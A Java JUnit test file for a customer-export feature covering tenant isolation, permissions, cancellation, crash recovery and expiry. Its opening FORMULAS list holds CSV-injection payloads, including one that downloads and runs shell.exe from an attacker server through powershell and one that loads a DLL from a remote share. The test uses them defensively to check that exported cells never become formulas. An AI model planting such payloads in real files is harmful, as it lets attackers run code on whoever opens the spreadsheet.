package app.quen.exporting;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.awaitility.Awaitility.await;

import app.quen.access.Actor;
import app.quen.access.Refused;
import app.quen.customer.CustomerDraft;
import app.quen.customer.RegisterManyCustomers;
import app.quen.customer.Source;
import app.quen.database.Work;
import app.quen.exporting.ExportFile.Format;
import app.quen.exporting.internal.ExportExpiry;
import app.quen.exporting.internal.ExportJob;
import app.quen.field.Invalid;
import app.quen.importing.ImportWorld;
import app.quen.job.JobContext;
import app.quen.job.JobHandler;
import app.quen.tenant.Tenant;
import app.quen.tenant.TenantId;
import app.quen.testing.EmbeddedDatabase;
import jakarta.json.Json;
import jakarta.json.JsonObject;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.UUID;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;

@ExtendWith(EmbeddedDatabase.class)
class ExportRunTest {

  /**
   * What spreadsheets would run: of the published list of CSV injections, and those that hide the
   * sign behind a blank, a tab or a wide character.
   */
  private static final List<String> FORMULAS =
      List.of(
          "DDE (\"cmd\";\"/C calc\";\"!A0\")A0",
          "@SUM(1+9)*cmd|' /C calc'!A0",
          "=10+20+cmd|' /C calc'!A0",
          "=cmd|' /C notepad'!'A1'",
          "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
          "=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
          "+1+1",
          "-2+3",
          "＝1+1");

  @TempDir static Path files;
  private ImportWorld imports;
  private Tenant a;
  private Tenant b;

  @BeforeEach
  void open() {
    imports = ImportWorld.open(files);
    a = imports.world.a();
    b = imports.world.b();
  }

  @AfterEach
  void close() {
    imports.close();
  }

  @Test
  void noCellOfAnyFileIsAFormula() throws IOException {
    register(a, FORMULAS);
    register(b, List.of("Người khác"));

    String csv = content(a, done(a, Format.CSV, "{}", List.of("name", "occupation")));
    assertThat(csv).doesNotContain("Người khác");
    for (String line : csv.lines().skip(1).toList()) {
      for (String cell : line.split(",(?=(?:[^\"]*\"[^\"]*\")*[^\"]*$)")) {
        String text = cell.replaceFirst("^\"", "");
        assertThat(text).doesNotMatch("^\\s*[=+\\-@＝＋－＠].*");
      }
    }
    byte[] xlsx = bytes(a, done(a, Format.XLSX, "{}", List.of("name", "occupation")));
    try (var book = new ReadableWorkbook(new ByteArrayInputStream(xlsx))) {
      book.getFirstSheet()
          .read()
          .forEach(
              row ->
                  row.forEach(cell -> assertThat(cell.getFormula()).as(cell.toString()).isNull()));
    }
    String json = content(a, done(a, Format.JSON, "{}", List.of("name")));
    try (var reader = Json.createReader(new StringReader(json))) {
      assertThat(reader.readArray().getValuesAs(JsonObject.class))
          .extracting(row -> row.getString("name"))
          .containsExactlyInAnyOrderElementsOf(FORMULAS);
    }
  }

  @Test
  void aFileHoldsAllThatTheQueryMeansAndSaysHowManyRows() {
    List<String> names = new ArrayList<>();
    for (int i = 0; i < 1_200; i++) {
      names.add("Khách " + i);
    }
    register(a, names);

    ExportView done =
        done(a, Format.CSV, "{'filters': ['name:contains:Khách 1']}", List.of("name"));

    assertThat(done.done()).isEqualTo(names.stream().filter(n -> n.contains("Khách 1")).count());
    assertThat(content(a, done)).hasLineCount((int) done.done() + 1);
    assertThat(done.size()).isEqualTo(bytes(a, done).length);
    assertThat(done.fileName()).startsWith("khach-hang-").endsWith(".csv");
    assertThat(done.expiresAt()).isEqualTo(done.finishedAt().plus(Duration.ofHours(24)));
  }

  @Test
  void onlyWhoAskedForItSeesItAndOnlyWithThePermission() {
    register(a, List.of("Hoa"));
    ExportView done = done(a, Format.CSV, "{}", List.of());
    Actor other = new Actor(Actor.Kind.MEMBER, UUID.randomUUID(), "Lan");

    for (Tenant tenant : List.of(a, b)) {
      assertThatThrownBy(() -> imports.as(tenant, other, Set.of("*"), () -> show(done.id())))
          .isInstanceOf(NoSuchExport.class);
    }
    assertThatThrownBy(() -> imports.as(b, () -> show(done.id()))).isInstanceOf(NoSuchExport.class);
    assertThatThrownBy(
            () ->
                imports.as(
                    a,
                    Actor.SYSTEM,
                    Set.of("customer:read"),
                    () -> imports.world.bean(OpenExport.class).open(done.id())))
        .isInstanceOfSatisfying(
            Refused.class, e -> assertThat(e.permission()).isEqualTo("customer:export"));
    assertThat(imports.as(a, () -> imports.world.bean(ListExports.class).list()))
        .extracting(ExportView::id)
        .containsExactly(done.id());
    assertThat(imports.as(b, () -> imports.world.bean(ListExports.class).list())).isEmpty();
  }

  @Test
  void aCancelledExportHasNoFileAndAJobThatComesLateWritesNone() throws IOException {
    register(a, List.of("Hoa"));
    ExportView asked = start(a, Format.CSV, "{}", List.of());
    imports.as(a, () -> imports.world.bean(CancelExport.class).cancel(asked.id()));

    run(a, ExportJob.class, asked.id() + " 0");

    assertThat(imports.as(a, () -> show(asked.id())).state()).isEqualTo("cancelled");
    assertThat(fileCount(a)).isZero();
    assertThatThrownBy(() -> bytes(a, asked)).isInstanceOf(NoSuchExport.class);
  }

  @Test
  void whatACrashLeftHalfWrittenIsWrittenAnewAndTheFileGoesAfterADay() throws IOException {
    register(a, List.of("Hoa", "Tám"));
    ExportView done = done(a, Format.CSV, "{}", List.of("name"));
    Files.writeString(folder(a).resolve(done.id() + ".crashed.part"), "nửa chừng");
    set(a, done.id(), "state = 'running', done = 1");

    run(a, ExportJob.class, done.id() + " 0");

    assertThat(imports.as(a, () -> show(done.id())).done()).isEqualTo(2);
    assertThat(content(a, done)).hasLineCount(3);
    run(a, ExportExpiry.class, done.id().toString());
    assertThat(imports.as(a, () -> show(done.id())).state()).isEqualTo("completed");
    set(a, done.id(), "expires_at = expires_at - INTERVAL 25 HOUR");
    run(a, ExportExpiry.class, done.id().toString());
    assertThat(imports.as(a, () -> show(done.id())).state()).isEqualTo("expired");
    assertThat(fileCount(a)).isZero();
  }

  @Test
  void whatCannotBeMeantIsRefusedAtOnce() {
    assertThatThrownBy(() -> start(a, Format.CSV, "{}", List.of("nothing")))
        .isInstanceOf(Invalid.class);
    assertThatThrownBy(() -> start(a, Format.CSV, "{'filters': ['nothing:eq:1']}", List.of()))
        .isInstanceOf(Invalid.class);
    assertThatThrownBy(() -> start(a, Format.CSV, "{'filters': 1}", List.of()))
        .isInstanceOf(Invalid.class);
  }

  private void register(Tenant tenant, List<String> names) {
    List<CustomerDraft> drafts =
        names.stream()
            .map(
                name ->
                    CustomerDraft.read(
                        Json.createObjectBuilder()
                            .add("name", name)
                            .add("occupation", name)
                            .build()))
            .toList();
    imports.as(
        tenant, () -> imports.world.bean(RegisterManyCustomers.class).register(drafts, Source.API));
  }

  private ExportView start(Tenant tenant, Format format, String query, List<String> columns) {
    try (var reader = Json.createReader(new StringReader(query.replace('\'', '"')))) {
      JsonObject json = reader.readObject();
      return imports.as(
          tenant,
          () ->
              imports
                  .world
                  .bean(StartExport.class)
                  .start(new StartExport.Plan("customer", json, columns, format, "vi")));
    }
  }

  private ExportView done(Tenant tenant, Format format, String query, List<String> columns) {
    UUID id = start(tenant, format, query, columns).id();
    ExportView done =
        await()
            .atMost(Duration.ofMinutes(2))
            .until(() -> imports.as(tenant, () -> show(id)), v -> !v.state().equals("running"));
    assertThat(done.failure()).isNull();
    assertThat(done.state()).isEqualTo("completed");
    return done;
  }

  private ExportView show(UUID id) {
    return imports.world.bean(ShowExport.class).show(id);
  }

  private byte[] bytes(Tenant tenant, ExportView view) {
    return imports.as(
        tenant,
        () -> {
          var out = new ByteArrayOutputStream();
          imports.world.bean(OpenExport.class).open(view.id()).content().writeTo(out);
          return out.toByteArray();
        });
  }

  private String content(Tenant tenant, ExportView view) {
    return new String(bytes(tenant, view), StandardCharsets.UTF_8);
  }

  private static Path folder(Tenant tenant) {
    return files.resolve(tenant.id().toString()).resolve("exports");
  }

  private static long fileCount(Tenant tenant) throws IOException {
    try (var all = Files.list(folder(tenant))) {
      return all.count();
    }
  }

  private void set(Tenant tenant, UUID id, String what) {
    Work work = imports.world.bean(Work.class);
    imports.world.run(
        tenant,
        () ->
            work.transact(
                () -> {
                  work.sql().execute("UPDATE export_run SET " + what + " WHERE id = ?", id);
                }));
  }

  private void run(Tenant tenant, Class<? extends JobHandler> handler, String data) {
    imports.world.in(
        tenant,
        () -> {
          imports.world.bean(handler).run(job(tenant, data));
          return null;
        });
  }

  private static JobContext job(Tenant tenant, String data) {
    return new JobContext() {
      @Override
      public TenantId tenant() {
        return tenant.id();
      }

      @Override
      public String id() {
        return data;
      }

      @Override
      public String data() {
        return data;
      }

      @Override
      public boolean stopping() {
        return false;
      }

      @Override
      public void again() {}

      @Override
      public void again(Instant at) {}
    };
  }
}
